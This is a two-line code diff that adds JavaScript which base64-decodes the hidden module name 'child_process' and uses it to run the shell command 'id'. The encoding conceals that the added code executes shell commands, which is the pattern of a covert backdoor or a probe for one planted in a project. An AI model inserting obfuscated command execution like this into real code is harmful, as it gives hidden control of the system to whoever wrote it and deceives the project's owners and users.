@@ -1,0 +1,2 @@
+const m = Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString();
+require(m).exec('id');
